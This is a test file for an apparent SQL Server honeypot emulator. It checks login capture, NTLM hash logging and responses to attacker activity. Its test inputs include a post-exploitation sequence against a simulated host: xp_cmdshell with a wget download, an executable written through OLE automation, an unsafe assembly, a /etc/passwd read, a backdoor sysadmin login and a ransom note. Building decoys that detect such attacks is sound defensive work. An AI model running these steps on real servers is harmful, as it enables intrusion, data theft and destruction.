import { createSocket } from 'node:dgram'
import { createConnection } from 'node:net'
import { Connection, type ConnectionConfiguration, Request, TYPES } from 'tedious'
import { afterEach, describe, expect, it } from 'vitest'
import { encodeLogin7, encodePackets, encodePrelogin } from '../../../src/emulators/mssql/codec.ts'
import lure from '../../../src/emulators/mssql/index.ts'
import { NTLM } from '../../../src/sensor/ntlm.ts'
import { type Playing, type PlayOptions, play } from '../../harness.ts'
import { FileHosts } from '../file-hosts.ts'

let playing: Playing
const connections: Connection[] = []
afterEach(async () => {
  for (const connection of connections.splice(0)) connection.close()
  await playing.stop()
})

const login = { policy: 'list', accept: [{ user: 'sa', password: 'letmein' }] }

async function serve(given: PlayOptions = {}): Promise<FileHosts> {
  const hosts = new FileHosts({ '/etc/hostname': 'db01\n' })
  playing = await play(lure, { persona: 'plain', prompts: 'test/fixtures/prompts', hosts, options: { login }, ...given })
  return hosts
}

async function logIn(password = 'letmein', more: ConnectionConfiguration['options'] = {}): Promise<Connection> {
  const connection = new Connection({
    server: '127.0.0.1',
    authentication: { type: 'default', options: { userName: 'sa', password } },
    options: { port: playing.port(), encrypt: true, trustServerCertificate: true, connectTimeout: 5000, ...more },
  })
  await new Promise<void>((resolve, reject) => connection.connect((error) => (error ? reject(error) : resolve())))
  connections.push(connection)
  return connection
}

interface Answer {
  rows: unknown[][]
  messages: string[]
}

async function ask(connection: Connection, sql: string, parameters: Record<string, string | number> = {}): Promise<Answer> {
  const answer: Answer = { rows: [], messages: [] }
  const onMessage = ({ message }: { message: string }): void => void answer.messages.push(message)
  connection.on('infoMessage', onMessage)
  try {
    await new Promise<void>((resolve, reject) => {
      const request = new Request(sql, (error) => (error ? reject(error) : resolve()))
      request.on('row', (row: { value: unknown }[]) => answer.rows.push(row.map(({ value }) => value)))
      const given = Object.entries(parameters)
      for (const [name, value] of given) request.addParameter(name, typeof value === 'number' ? TYPES.Int : TYPES.NVarChar, value)
      if (given.length) connection.execSql(request)
      else connection.execSqlBatch(request)
    })
  } finally {
    connection.off('infoMessage', onMessage)
  }
  return answer
}

describe('a login', () => {
  it.each([true, false])('is judged by the policy, its password read in clear, with encrypt: %s', async (encrypt) => {
    await serve()
    await logIn('letmein', { encrypt })
    await expect(logIn('kX9¥é!vv', { encrypt })).rejects.toMatchObject({ message: "Login failed for user 'sa'." })
    expect(playing.data('login')).toMatchObject([
      { method: 'mssql', username: 'sa', password: 'letmein', accepted: true },
      { method: 'mssql', username: 'sa', password: 'kX9¥é!vv', accepted: false },
    ])
    expect(playing.data('mssql.client')[0]).toMatchObject({ library: 'Tedious', tls: encrypt, tdsVersion: '0x74000004' })
    expect(playing.data('mssql.prelogin')[0]).toMatchObject({ encryption: encrypt ? 1 : 2 })
    if (encrypt) expect(playing.data('fingerprint')[0]).toMatchObject({ kind: 'ja4' })
  })

  it('by NTLM leaves hashcat its line', async () => {
    await serve()
    const socket = createConnection(playing.port(), '127.0.0.1')
    const negotiate = Buffer.concat([Buffer.from('NTLMSSP\0'), Buffer.from([1, 0, 0, 0]), Buffer.alloc(20)])
    negotiate.writeUInt32LE(NTLM.UNICODE | NTLM.NTLM | NTLM.EXTENDED_SESSIONSECURITY, 12)
    socket.write(encodePackets(18, encodePrelogin({ version: '9.0.0', encryption: 2, isMarsAsked: false }), 4096))
    socket.write(encodePackets(16, encodeLogin7({ user: '', password: '', sspi: negotiate }), 4096))
    const answer = await new Promise<Buffer>((resolve) => {
      let all = Buffer.alloc(0)
      socket.on('data', (bytes: Buffer) => {
        all = Buffer.concat([all, bytes])
        if (all.includes('NTLMSSP')) resolve(all)
      })
    })
    const at = answer.indexOf('NTLMSSP')
    expect(answer.readUInt32LE(at + 8)).toBe(2)
    // Major, minor and build of Windows Server 2019.
    expect([answer[at + 48], answer[at + 49], answer.readUInt16LE(at + 50)]).toEqual([10, 0, 17_763])
    const fields = [
      Buffer.alloc(24),
      Buffer.alloc(44, 7),
      Buffer.from('CORP', 'utf16le'),
      Buffer.from('alice', 'utf16le'),
      Buffer.alloc(0),
      Buffer.alloc(0),
    ]
    const head = Buffer.alloc(64)
    head.write('NTLMSSP\0')
    head.writeUInt32LE(3, 8)
    let offset = 64
    for (const [i, field] of fields.entries()) {
      head.writeUInt16LE(field.length, 12 + i * 8)
      head.writeUInt16LE(field.length, 14 + i * 8)
      head.writeUInt32LE(offset, 16 + i * 8)
      offset += field.length
    }
    head.writeUInt32LE(NTLM.UNICODE | NTLM.NTLM, 60)
    socket.write(encodePackets(17, Buffer.concat([head, ...fields]), 4096))
    const { data } = await playing.seen('login')
    expect(data).toMatchObject({
      method: 'ntlm',
      username: 'alice',
      accepted: false,
      hash: { mode: 5600, line: expect.stringMatching(/^alice::CORP:[0-9a-f]{16}:/) },
    })
    socket.destroy()
  })
})

describe('queries', () => {
  it('are answered from the persona’s database', async () => {
    await serve()
    const connection = await logIn()
    expect((await ask(connection, 'select @@version')).rows[0]?.[0]).toMatch(/^Microsoft SQL Server 2019 \(RTM\) - 15\.0\.2000\.5 \(X64\)/)
    expect((await ask(connection, 'select name from sys.databases order by database_id')).rows.flat()).toEqual([
      'master',
      'tempdb',
      'model',
      'msdb',
      'shop',
    ])
    const { messages } = await ask(connection, 'use shop')
    expect(messages).toEqual(["Changed database context to 'shop'."])
    expect((await ask(connection, "select top 2 name from sysobjects where xtype = 'U' order by 1")).rows.length).toBe(2)
    expect((await ask(connection, 'select table_name from information_schema.tables')).rows.flat()).toContain('customers')
    expect((await ask(connection, 'select count(*) from [shop].[dbo].[customers] with (nolock)')).rows[0]?.[0]).toBeGreaterThan(100)
    expect((await ask(connection, "select is_srvrolemember('sysadmin'), system_user, db_name()")).rows).toEqual([[1, 'sa', 'shop']])
  })

  it('take parameters and every type there and back', async () => {
    await serve()
    const connection = await logIn()
    const { rows } = await ask(
      connection,
      "select @n + 1, @text + N'é', cast(1.50 as decimal(10,2)), cast(2.5 as float), 0x4d5a, cast(1 as bit), null",
      {
        n: 41,
        text: 'x',
      },
    )
    expect(rows).toEqual([[42, 'xé', 1.5, 2.5, Buffer.from('MZ'), true, null]])
    const [[long]] = (await ask(connection, "select replicate('ab', 5000)")).rows as [[string]]
    expect(long).toHaveLength(10_000)
    expect((await ask(connection, "select cast('2026-01-31 12:00:00' as datetime)")).rows).toEqual([[new Date('2026-01-31T12:00:00Z')]])
  })

  it('fail in the words of SQL Server', async () => {
    await serve()
    const connection = await logIn()
    await expect(ask(connection, 'select * from nothing')).rejects.toMatchObject({ number: 208, message: "Invalid object name 'nothing'." })
    await expect(ask(connection, 'selec 1')).rejects.toMatchObject({ number: 102, message: "Incorrect syntax near 'selec'." })
    await expect(ask(connection, "select 'x")).rejects.toMatchObject({ number: 105 })
    await expect(ask(connection, "select cast('abc' as int)")).rejects.toMatchObject({ number: 245 })
    await expect(ask(connection, 'exec sp_nothing')).rejects.toMatchObject({
      number: 2812,
      message: "Could not find stored procedure 'sp_nothing'.",
    })
    await expect(ask(connection, 'select 1/0')).rejects.toMatchObject({ number: 8134 })
    expect((await ask(connection, 'select 1')).rows).toEqual([[1]])
  })

  it('may be whole programs', async () => {
    await serve()
    const connection = await logIn()
    const program =
      "declare @i int = 0, @s varchar(100) = ''; while @i < 3 begin set @i = @i + 1; set @s = @s + 'x' end if @s = 'xxx' select @i, @s else select 0"
    expect((await ask(connection, program)).rows).toEqual([[3, 'xxx']])
    const worm = `declare @s varchar(4000); set @s = 0x${Buffer.from("select 'worm'").toString('hex')}; exec(@s)`
    expect((await ask(connection, worm)).rows).toEqual([['worm']])
    expect((await ask(connection, "print 'hello'")).messages).toEqual(['hello'])
    await ask(connection, 'while 1 = 1 select 1').catch((error: Error) => expect(error.message).toMatch(/query processor/))
  })

  it('handle errors in CATCH, and go on after it', async () => {
    await serve()
    const connection = await logIn()
    const { rows } = await ask(
      connection,
      `begin try select 1/0 select 'not reached' end try
       begin catch select error_number(), error_severity(), error_message() end catch
       select error_number()`,
    )
    expect(rows).toEqual([[8134, 16, 'Divide by zero error encountered.'], [8134]])
    await expect(ask(connection, 'begin try exec nope end try begin catch throw end catch')).rejects.toThrow(
      "Could not find stored procedure 'nope'",
    )
  })

  it('put what a procedure or a text gives into a table', async () => {
    await serve()
    const connection = await logIn()
    const { rows } = await ask(
      connection,
      `create table #t (name varchar(255), size varchar(255), owner varchar(255), dbid int, created datetime, status varchar(512), level int)
       insert into #t exec sp_helpdb
       insert into #t (name, dbid) exec('select ''x'', 99')
       select name from #t where dbid > 4 and dbid in (db_id('shop'), 99) order by dbid`,
    )
    expect(rows.flat()).toEqual(['shop', 'x'])
  })

  it('of one source leave their changes to it', async () => {
    await serve()
    const first = await logIn()
    await ask(
      first,
      "drop table shop.dbo.customers; create table shop.dbo.README (note nvarchar(200)); insert shop.dbo.README values ('pay to rec0very@onionmail.org')",
    )
    const again = await logIn()
    expect((await ask(again, 'select note from shop..README')).rows).toEqual([['pay to rec0very@onionmail.org']])
    await expect(ask(again, 'select * from shop..customers')).rejects.toMatchObject({ number: 208 })
    expect(playing.data('mssql.destroyed')).toMatchObject([{ what: 'table', name: 'customers' }])
    expect(playing.data<{ value: string }>('indicator').map(({ value }) => value)).toContain('rec0very@onionmail.org')
  })
})

describe('the ways out of the database', () => {
  it('xp_cmdshell runs on the simulated host once it is turned on', async () => {
    const hosts = await serve()
    const connection = await logIn()
    await expect(ask(connection, "exec xp_cmdshell 'id'")).rejects.toMatchObject({ number: 15_281 })
    const { messages } = await ask(
      connection,
      "exec sp_configure 'show advanced options', 1; reconfigure; exec sp_configure 'xp_cmdshell', 1; reconfigure",
    )
    expect(messages).toContain("Configuration option 'xp_cmdshell' changed from 0 to 1. Run the RECONFIGURE statement to install.")
    expect((await ask(connection, "exec master..xp_cmdshell 'wget http://203.0.113.9/x.sh'")).rows).toEqual([
      ['ran wget http://203.0.113.9/x.sh as mssql'],
      [null],
    ])
    expect(hosts.ran).toEqual([{ command: 'wget http://203.0.113.9/x.sh', user: 'mssql' }])
    expect(playing.data('mssql.host-command')).toMatchObject([{ command: 'wget http://203.0.113.9/x.sh' }])
    expect(playing.data('mssql.setting')).toContainEqual({ name: 'xp_cmdshell', value: '1' })
  })

  it('answers as cmd.exe where the machine is a Windows Server', async () => {
    await serve({ options: { login, system: 'windows' } })
    const connection = await logIn()
    await ask(connection, "exec sp_configure 'show advanced options', 1; reconfigure; exec sp_configure 'xp_cmdshell', 1; reconfigure")
    expect((await ask(connection, "xp_cmdshell 'cmd /c whoami'")).rows).toEqual([['nt service\\mssqlserver'], [null]])
    expect((await ask(connection, "xp_cmdshell 'uname -a'")).rows[0]).toEqual([
      "'uname' is not recognized as an internal or external command,",
    ])
    expect((await ask(connection, 'select @@version')).rows[0]?.[0]).toMatch(/on Windows Server 2019 Standard/)
  })

  it('OLE automation writes the file that came in pieces', async () => {
    const hosts = await serve()
    const connection = await logIn()
    await ask(
      connection,
      "exec sp_configure 'show advanced options', 1; reconfigure; exec sp_configure 'Ole Automation Procedures', 1; reconfigure",
    )
    const program = `declare @o int; exec sp_OACreate 'ADODB.Stream', @o output; exec sp_OAMethod @o, 'Open'; exec sp_OAMethod @o, 'Write', null, 0x4d5a90;
      exec sp_OAMethod @o, 'Write', null, 0x0003; exec sp_OAMethod @o, 'SaveToFile', null, '/tmp/x.exe', 2; exec sp_OADestroy @o`
    await ask(connection, program)
    expect(hosts.files.get('/tmp/x.exe')).toEqual(Buffer.from('4d5a900003', 'hex'))
    expect(playing.data('mssql.file-write')).toMatchObject([{ path: '/tmp/x.exe', how: 'ole-automation', bytes: 5, written: true }])
  })

  it('assemblies are captured, BULK INSERT reads the host, jobs and accounts are taken down', async () => {
    await serve()
    const connection = await logIn()
    await ask(connection, 'create assembly shell from 0x4d5a9000 with permission_set = unsafe')
    expect(playing.data('mssql.file-write')).toMatchObject([{ path: 'shell.dll', how: 'assembly', bytes: 4 }])
    await ask(connection, "create table #f (line varchar(8000)); bulk insert #f from '/etc/passwd'")
    expect((await ask(connection, 'select line from #f')).rows[0]).toEqual(['root:x:0:0:root:/root:/bin/bash'])
    await ask(connection, "create login sysadm with password = 'Qwer!234'; exec sp_addsrvrolemember 'sysadm', 'sysadmin'")
    expect(playing.data('mssql.privilege')).toMatchObject([{ name: 'sysadm', password: 'Qwer!234' }, { name: 'sysadm' }])
    expect((await ask(connection, "select name from master..syslogins where name = 'sysadm'")).rows).toEqual([['sysadm']])
    await ask(
      connection,
      "exec msdb.dbo.sp_add_job @job_name = 'j'; exec msdb.dbo.sp_add_jobstep @job_name = 'j', @subsystem = 'CMDEXEC', @command = 'id'; exec msdb.dbo.sp_start_job 'j'",
    )
    expect(playing.data('mssql.host-command')).toMatchObject([{ command: 'id' }])
  })
})

it('SQL Server Browser says where the instance is', async () => {
  await serve()
  const socket = createSocket('udp4')
  const answer = new Promise<Buffer>((resolve) => socket.once('message', resolve))
  socket.send(Buffer.of(3), playing.port(1), '127.0.0.1')
  const { data } = await playing.seen('mssql.browse')
  expect(data).toMatchObject({ request: 'all' })
  expect((await answer).toString('latin1', 3)).toMatch(
    /^ServerName;[A-Z0-9-]+;InstanceName;MSSQLSERVER;IsClustered;No;Version;15\.0\.2000\.5;tcp;1433;;$/,
  )
  socket.close()
})
